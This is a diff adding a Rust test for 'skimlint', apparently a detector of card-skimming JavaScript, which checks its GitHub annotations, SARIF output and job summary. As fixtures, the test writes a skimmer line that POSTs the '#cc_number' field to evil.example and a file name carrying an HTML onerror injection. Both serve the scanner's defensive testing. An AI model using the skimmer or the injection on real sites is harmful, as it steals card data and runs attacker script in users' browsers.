@@ -244,3 +244,90 @@ fn install_and_scan_scripts_run_like_on_a_runner() {
     assert!(!o.contains_key("sarif-file"));
     assert!(text(&out).contains("bad.toml:1:1"), "{}", text(&out));
 }
+
+#[test]
+fn scan_step_writes_a_job_summary_and_says_when_annotations_were_capped() {
+    let runner = Runner::new();
+    // 13 skimmers: more errors than GitHub annotates from one step; one file name tries to add
+    // HTML to the summary.
+    let skimmer = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";
+    let web = runner.workspace.join("web");
+    std::fs::create_dir_all(&web).unwrap();
+    for i in 0..12 {
+        std::fs::write(web.join(format!("s{i:02}.js")), skimmer).unwrap();
+    }
+    std::fs::write(web.join("pay<img src=x onerror=alert(1)>.js"), skimmer).unwrap();
+    let bin = env!("CARGO_BIN_EXE_skimlint");
+    let github = [
+        ("SKIMLINT", bin),
+        ("GITHUB_SERVER_URL", "https://github.com"),
+        ("GITHUB_REPOSITORY", "acme/shop"),
+        ("GITHUB_SHA", "0123456789abcdef0123456789abcdef01234567"),
+    ];
+
+    // Annotations on (as with upload-sarif off): 10 per level, the rest as plain log lines.
+    let mut inputs = github.to_vec();
+    inputs.extend([("INPUT_PATHS", "web"), ("INPUT_UPLOAD_SARIF", "false")]);
+    let (out, o) = runner.step("scan.sh", &inputs);
+    assert!(out.status.success(), "{}", text(&out));
+    let log = String::from_utf8_lossy(&out.stdout).to_string();
+    let doc: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&o["sarif-file"]).unwrap()).unwrap();
+    let results = doc["runs"][0]["results"].as_array().unwrap();
+    let errors = results.iter().filter(|r| r["level"] == "error").count();
+    assert!(errors > 10, "{errors} errors");
+    assert_eq!(doc["runs"][0]["automationDetails"]["id"], "skimlint/");
+    assert_eq!(
+        log.lines().filter(|l| l.starts_with("::error ")).count(),
+        10,
+        "{log}"
+    );
+    assert!(log.contains("GitHub keeps at most 10 annotations per level"));
+    assert_eq!(
+        log.lines()
+            .filter(|l| l.starts_with("skimlint: web/") && l.contains(": error["))
+            .count(),
+        errors - 10,
+        "{log}"
+    );
+
+    let summary = std::fs::read_to_string(runner.temp.join("summary.md")).unwrap();
+    assert!(
+        summary.contains(&format!("skimlint: {} findings", results.len())),
+        "{summary}"
+    );
+    assert!(
+        summary.contains(&format!("| error | {errors} |")),
+        "{summary}"
+    );
+    assert!(summary.contains("| warning | "), "{summary}");
+    assert!(summary.contains("| note | "), "{summary}");
+    assert!(
+        summary.contains("](https://github.com/acme/shop/blob/0123456789abcdef0123456789abcdef01234567/web/s00.js#L2)"),
+        "{summary}"
+    );
+    assert!(summary.contains("Annotations were capped"), "{summary}");
+    assert!(
+        summary.contains(&format!("{} errors", errors - 10)),
+        "{summary}"
+    );
+    assert!(
+        !summary.contains("<img"),
+        "HTML from a file name: {summary}"
+    );
+    assert!(summary.contains("pay&lt;img"), "{summary}");
+
+    // Default (code scanning upload on): no annotations, a summary without the cap note; the
+    // category input becomes the SARIF category.
+    std::fs::remove_file(runner.temp.join("summary.md")).unwrap();
+    let mut inputs = github.to_vec();
+    inputs.extend([("INPUT_PATHS", "web"), ("INPUT_CATEGORY", "storefront")]);
+    let (out, o) = runner.step("scan.sh", &inputs);
+    assert!(out.status.success(), "{}", text(&out));
+    assert!(!String::from_utf8_lossy(&out.stdout).contains("::error "));
+    let summary = std::fs::read_to_string(runner.temp.join("summary.md")).unwrap();
+    assert!(summary.contains("| error |") && !summary.contains("Annotations were capped"));
+    let doc: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&o["sarif-file"]).unwrap()).unwrap();
+    assert_eq!(doc["runs"][0]["automationDetails"]["id"], "storefront/");
+}
